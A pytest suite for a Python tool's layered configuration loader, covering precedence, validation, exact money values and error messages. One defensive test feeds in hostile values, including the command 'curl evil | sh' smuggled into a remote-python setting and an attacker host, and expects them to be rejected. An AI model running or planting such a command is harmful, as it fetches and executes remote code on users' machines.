"""burst_jupyter.config: defaults < user file < nearest [tool.burst] < explicit overrides."""

from __future__ import annotations

import re
from decimal import Decimal
from pathlib import Path

import pytest

from burst_jupyter.config import PROJECT_RULES, Settings, load_settings
from burst_jupyter.errors import ConfigError


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """An empty project folder; no pyproject.toml above tmp_path is expected to carry [tool.burst]."""
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


@pytest.fixture
def no_user_file(tmp_path: Path) -> Path:
    return tmp_path / "absent" / "config.toml"


def test_missing_files_give_defaults(project: Path, no_user_file: Path) -> None:
    settings = load_settings(cwd=project, user_file=no_user_file)
    assert settings == Settings()
    assert settings.provider == "auto"
    assert settings.lease_seconds == 600
    assert settings.hosts == []
    assert settings.max_cost is None
    assert settings.sources == {}


def test_pyproject_beats_user_file_beats_defaults(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", 'provider = "ssh"\nmax_cost = 5\nprefer = ["a", "b"]\nrate = "0.5"\n')
    write(project / "pyproject.toml", '[project]\nname = "x"\n\n[tool.burst]\nmax-cost = 2\nprefer = ["c"]\n')
    settings = load_settings(cwd=project, user_file=user)
    assert settings.provider == "ssh"
    assert settings.max_cost == Decimal(2)
    assert settings.prefer == ["c"]  # replaced, not concatenated
    assert settings.rate == Decimal("0.5")
    assert settings.lease_seconds == 600
    pyproject = f"{project / 'pyproject.toml'} [tool.burst]"
    assert settings.sources == {"provider": str(user), "rate": str(user), "max_cost": pyproject, "prefer": pyproject}


def test_walks_up_to_nearest_pyproject_with_table(project: Path, no_user_file: Path) -> None:
    write(project / "pyproject.toml", "[tool.burst]\nlease_seconds = 30\n")
    # A nearer pyproject.toml without [tool.burst] is passed over.
    write(project / "pkg" / "pyproject.toml", '[project]\nname = "pkg"\n')
    nested = project / "pkg" / "notebooks" / "deep"
    nested.mkdir(parents=True)
    assert load_settings(cwd=nested, user_file=no_user_file).lease_seconds == 30


def test_nearest_table_wins_over_outer_one(project: Path, no_user_file: Path) -> None:
    write(project / "pyproject.toml", '[tool.burst]\nprovider = "ssh"\nlease_seconds = 30\n')
    write(project / "sub" / "pyproject.toml", '[tool.burst]\nprovider = "local"\n')
    settings = load_settings(cwd=project / "sub", user_file=no_user_file)
    assert (settings.provider, settings.lease_seconds) == ("local", 600)  # the outer file is not merged in


def test_all_fields_round_trip(tmp_path: Path, project: Path) -> None:
    user = write(
        tmp_path / "user.toml",
        """
        provider = "ssh"
        max-cost = "$3.20"
        max-duration-minutes = 720
        rate = 1.25
        hosts = ["gpu1", "me@gpu2:2222"]
        trust-new-hosts = true
        remote-python = "/opt/py/bin/python3"
        lease-seconds = 0
        result-sink = "file:///tmp/out"
        daily-budget = 20
        weekly-budget = 100.5
        image = "pytorch/pytorch:latest"
        prefer = ["vast", "runpod"]
        min-reliability = 0.95
        offer-ttl-seconds = 10
        provision-timeout-seconds = 300
        reconcile-interval-seconds = 60
        [vast]
        api-key = "k-vast"
        [runpod]
        url = "http://127.0.0.1:9"
        [thunder]
        ssh-user = "root"
        """,
    )
    settings = load_settings(cwd=project, user_file=user)
    assert settings.model_dump() == {
        "provider": "ssh",
        "max_cost": Decimal("3.20"),
        "max_duration_minutes": 720,
        "rate": Decimal("1.25"),
        "hosts": ["gpu1", "me@gpu2:2222"],
        "trust_new_hosts": True,
        "remote_python": "/opt/py/bin/python3",
        "lease_seconds": 0,
        "result_sink": "file:///tmp/out",
        "daily_budget": Decimal(20),
        "weekly_budget": Decimal("100.5"),
        "image": "pytorch/pytorch:latest",
        "prefer": ["vast", "runpod"],
        "min_reliability": 0.95,
        "offer_ttl_seconds": 10.0,
        "provision_timeout_seconds": 300.0,
        "reconcile_interval_seconds": 60.0,
        "accounts": {
            "vast": {"api_key": "k-vast", "url": None, "ssh_user": None},
            "runpod": {"api_key": None, "url": "http://127.0.0.1:9", "ssh_user": None},
            "thunder": {"api_key": None, "url": None, "ssh_user": "root"},
        },
    }
    assert set(settings.sources) == set(Settings.model_fields)


def test_api_keys_stay_out_of_project_files(tmp_path: Path, project: Path) -> None:
    (project / "pyproject.toml").write_text('[tool.burst.vast]\napi-key = "leaked"\n')
    with pytest.raises(ConfigError) as info:
        load_settings(cwd=project, user_file=tmp_path / "none.toml")
    assert str(info.value) == (f"{project / 'pyproject.toml'} [tool.burst.vast] api-key: a project file cannot hold "
                               f"an API key; set VAST_API_KEY or api-key in {tmp_path / 'none.toml'}")


def test_every_setting_has_a_project_rule() -> None:
    """A new key must be decided: may a cloned project set it, only tighten it, or never?"""
    assert set(PROJECT_RULES) == set(Settings.model_fields)


@pytest.mark.parametrize(("table", "line", "where", "why"), [
    ("vast", 'url = "http://127.0.0.1:9"', "[tool.burst.vast] url", "set where credentials go; set VAST_URL or url"),
    ("runpod", 'url = "https://x.test"', "[tool.burst.runpod] url",
     "set where credentials go; set RUNPOD_API_BASE_URL or url"),
    ("thunder", 'url = "https://x.test"', "[tool.burst.thunder] url",
     "set where credentials go; set TNR_API_URL or url"),
    ("runpod", 'ssh-user = "root"', "[tool.burst.runpod] ssh-user", "choose the user your account logs in as; set "
     "ssh-user"),
    (None, 'hosts = ["evil.example"]', "[tool.burst] hosts", "choose the machines your jobs and their keys go to"),
    (None, "trust-new-hosts = true", "[tool.burst] trust-new-hosts", "decide which SSH host keys are trusted"),
    (None, "trust_new_hosts = false", "[tool.burst] trust_new_hosts", "decide which SSH host keys are trusted"),
    (None, 'remote-python = "curl evil | sh; python3"', "[tool.burst] remote-python",
     "choose the command run on your machines"),
    (None, 'result-sink = "s3://someone-else/x"', "[tool.burst] result-sink", "choose where your results"),
])
def test_a_project_file_cannot_redirect_or_trust(tmp_path: Path, project: Path, table: str | None, line: str,
                                                 where: str, why: str) -> None:
    user = write(tmp_path / "user.toml", 'hosts = ["mine"]\n[vast]\nurl = "https://mine.test"\n')
    write(project / "pyproject.toml", (f"[tool.burst.{table}]\n" if table else "[tool.burst]\n") + line + "\n")
    with pytest.raises(ConfigError) as info:
        load_settings(cwd=project, user_file=user)
    text = str(info.value)
    assert text.startswith(f"{project / 'pyproject.toml'} {where}: a project file cannot {why}"), text
    assert str(user) in text and "\n" not in text


@pytest.mark.parametrize(("user_line", "line", "looser"), [
    ("", "lease-seconds = 0", "0 is looser than 600"),
    ("lease-seconds = 60", "lease-seconds = 120", "120 is looser than 60"),
    ("max-cost = 5", "max-cost = 6", "6 is looser than 5"),
    ("max-duration-minutes = 30", "max-duration-minutes = 60", "60 is looser than 30"),
    ("daily-budget = 10", "daily-budget = 20", "20 is looser than 10"),
    ("weekly-budget = 10", "weekly-budget = 11", "11 is looser than 10"),
    ("rate = 0.5", "rate = 0.25", "0.25 is looser than 0.5"),
    ("min-reliability = 0.9", "min-reliability = 0.5", "0.5 is looser than 0.9"),
    ("", "provision-timeout-seconds = 3600", "3600.0 is looser than 900.0"),
    ("", "reconcile-interval-seconds = 3600", "3600.0 is looser than 300.0"),
    ("", "offer-ttl-seconds = 600", "600.0 is looser than 30.0"),
])
def test_a_project_file_cannot_loosen_a_limit(tmp_path: Path, project: Path, user_line: str, line: str,
                                              looser: str) -> None:
    user = write(tmp_path / "user.toml", user_line + "\n")
    write(project / "pyproject.toml", f"[tool.burst]\n{line}\n")
    with pytest.raises(ConfigError) as info:
        load_settings(cwd=project, user_file=user)
    key = line.split(" = ")[0]
    assert str(info.value) == (f"{project / 'pyproject.toml'} [tool.burst] {key}: a project file may only tighten "
                               f"this limit, and {looser} (yours or the default); change it in {user} or as an "
                               f"option")


def test_a_project_file_may_shape_jobs_and_tighten_limits(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", "max-cost = 5\nlease-seconds = 0\nrate = 0.5\n")
    write(project / "pyproject.toml", '[tool.burst]\nprovider = "local"\nimage = "pytorch/pytorch:2"\n'
          'max-cost = 5\nlease-seconds = 120\nrate = 0.75\nmax-duration-minutes = 30\ndaily-budget = 3\n'
          "min-reliability = 0.9\nprovision-timeout-seconds = 60\n")
    settings = load_settings(cwd=project, user_file=user)
    assert (settings.provider, settings.max_cost, settings.lease_seconds, settings.rate) == (
        "local", Decimal(5), 120, Decimal("0.75"))
    assert (settings.max_duration_minutes, settings.daily_budget, settings.provision_timeout_seconds) == (
        30, Decimal(3), 60.0)


def test_an_unknown_account_key_names_its_table(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", '[runpod]\napikey = "x"\n')
    with pytest.raises(ConfigError, match=r"runpod\.apikey"):
        load_settings(cwd=project, user_file=user)


def test_money_stays_exact(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", 'max_cost = 0.1\nrate = "0.1"\ndaily_budget = 0.3\n')
    settings = load_settings(cwd=project, user_file=user)
    assert str(settings.max_cost) == "0.1"  # a TOML float goes through str, not Decimal(0.1)
    assert settings.rate == Decimal("0.1")
    assert settings.daily_budget == Decimal("0.3")
    assert isinstance(settings.max_cost, Decimal)


def test_unknown_key_suggests_close_match(project: Path, no_user_file: Path) -> None:
    path = write(project / "pyproject.toml", "[tool.burst]\nmax_cots = 3\n")
    with pytest.raises(ConfigError) as info:
        load_settings(cwd=project, user_file=no_user_file)
    assert str(info.value) == f"{path} [tool.burst]: unknown key 'max_cots'; did you mean max-cost?"


def test_unknown_hyphenated_key_suggests_hyphenated_name(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", "lease-secnds = 3\n")
    with pytest.raises(ConfigError, match=r"user\.toml: unknown key 'lease-secnds'; did you mean lease-seconds\?$"):
        load_settings(cwd=project, user_file=user)


def test_unknown_key_without_match_lists_known_keys(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", "[burst]\nprovider = 'ssh'\n")
    known = r"known keys: provider, max-cost, max-duration, .*weekly-budget, .*thunder, lambda$"
    with pytest.raises(ConfigError, match=rf"unknown key 'burst'; {known}"):
        load_settings(cwd=project, user_file=user)


def test_a_job_option_s_key_is_the_option_s_name_and_its_older_spelling_still_reads(tmp_path: Path,
                                                                                      project: Path) -> None:
    user = write(tmp_path / "user.toml", 'lease = 60\nhost = ["gpu1"]\ntrust-new-host = true\npython = "py3"\n'
                 'sink = "file:///tmp/out"\nprovision-timeout = 300\n')
    settings = load_settings(cwd=project, user_file=user)
    assert (settings.lease_seconds, settings.hosts, settings.trust_new_hosts, settings.remote_python,
            settings.result_sink, settings.provision_timeout_seconds) == (60, ["gpu1"], True, "py3",
                                                                          "file:///tmp/out", 300.0)
    write(user, "lease = 60\nlease-seconds = 30\n")
    with pytest.raises(ConfigError, match=r"lease and lease-seconds are the same setting; keep one$"):
        load_settings(cwd=project, user_file=user)
    write(user, "colour = 1\n")
    with pytest.raises(ConfigError) as listed:
        load_settings(cwd=project, user_file=user)
    keys = str(listed.value).split("known keys: ")[1].split(", ")
    assert {"lease", "host", "trust-new-host", "python", "sink", "provision-timeout"} <= set(keys), keys
    assert not {"lease-seconds", "hosts", "remote-python"} & set(keys), keys


def test_same_key_twice_is_an_error(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", "max_cost = 1\nmax-cost = 2\n")
    with pytest.raises(ConfigError, match="max_cost and max-cost are the same setting; keep one"):
        load_settings(cwd=project, user_file=user)


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("max_cost = -1", r"max_cost: amount cannot be negative \(got -1\)"),
        ('max_cost = "lots"', r"max_cost: amount must be a number of USD, not 'lots'"),
        ("max_cost = true", r"max_cost: amount must be a number of USD, not True"),
        ("daily_budget = nan", r"daily_budget: amount must be a finite number of USD"),
        ("max_duration_minutes = 721", r"max_duration_minutes: must be at most 720 \(got 721\)"),
        ("max-duration = 0", r"max-duration: must be at least 1 \(got 0\)"),
        ('max_duration_minutes = "60"', r"max_duration_minutes: Input should be a valid integer \(got '60'\)"),
        ("lease-seconds = -5", r"lease-seconds: must be at least 0"),
        ('trust_new_hosts = "yes"', r"trust_new_hosts: Input should be a valid boolean \(got 'yes'\)"),
        ('hosts = "gpu1"', r"hosts: Input should be a valid list"),
        ('hosts = ["a", 2]', r"hosts\[1\]: Input should be a valid string \(got 2\)"),
        ("provider = 3", r"provider: Input should be a valid string"),
    ],
)
def test_bad_values_name_file_and_key(tmp_path: Path, project: Path, line: str, message: str) -> None:
    path = write(project / "pyproject.toml", f"[tool.burst]\n{line}\n")
    with pytest.raises(ConfigError) as info:
        load_settings(cwd=project, user_file=tmp_path / "absent.toml")
    text = str(info.value)
    assert text.startswith(f"{path} [tool.burst]: ")
    assert "\n" not in text
    assert re.search(message, text), text


def test_toml_syntax_error_is_one_line_naming_the_file(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", "provider = \nmax_cost = 1\n")
    with pytest.raises(ConfigError) as info:
        load_settings(cwd=project, user_file=user)
    text = str(info.value)
    assert text.startswith(f"{user}: invalid TOML: ")
    assert "line 1" in text
    assert "\n" not in text


def test_broken_pyproject_is_reported(project: Path, no_user_file: Path) -> None:
    path = write(project / "pyproject.toml", "[tool.burst\n")
    with pytest.raises(ConfigError, match=rf"^{path}: invalid TOML: "):
        load_settings(cwd=project, user_file=no_user_file)


def test_non_utf8_file_is_a_config_error(tmp_path: Path, project: Path) -> None:
    user = tmp_path / "user.toml"
    user.write_bytes(b'provider = "\xff"\n')
    with pytest.raises(ConfigError, match="not UTF-8"):
        load_settings(cwd=project, user_file=user)


def test_tool_burst_must_be_a_table(project: Path, no_user_file: Path) -> None:
    write(project / "pyproject.toml", "[tool]\nburst = 3\n")
    with pytest.raises(ConfigError, match=r"\[tool\.burst\]: must be a table, not int$"):
        load_settings(cwd=project, user_file=no_user_file)


def test_user_file_defaults_to_burst_config(tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user = write(tmp_path / "from-env.toml", "lease_seconds = 5\n")
    monkeypatch.setenv("BURST_CONFIG", str(user))
    assert load_settings(cwd=project).lease_seconds == 5


def test_merged_applies_given_overrides_only(tmp_path: Path, project: Path) -> None:
    user = write(tmp_path / "user.toml", 'provider = "ssh"\nmax_cost = 5\nhosts = ["a"]\n')
    base = load_settings(cwd=project, user_file=user)
    merged = base.merged(max_cost="1.50", hosts=None, provider=None, lease_seconds=60)
    assert merged.max_cost == Decimal("1.50")
    assert merged.hosts == ["a"]
    assert merged.provider == "ssh"
    assert merged.lease_seconds == 60
    assert merged.sources == {
        "provider": str(user),
        "hosts": str(user),
        "max_cost": "override",
        "lease_seconds": "override",
    }
    assert base.max_cost == Decimal(5)  # the original is unchanged


def test_merged_rejects_bad_overrides() -> None:
    with pytest.raises(ConfigError, match=r"^override: max_cost: amount cannot be negative"):
        Settings().merged(max_cost=-2)
    with pytest.raises(ConfigError, match=r"^override: unknown key 'max_cots'; did you mean max_cost\?$"):
        Settings().merged(max_cots=2)


def test_settings_are_frozen() -> None:
    with pytest.raises(ValueError, match="frozen"):
        Settings().provider = "ssh"
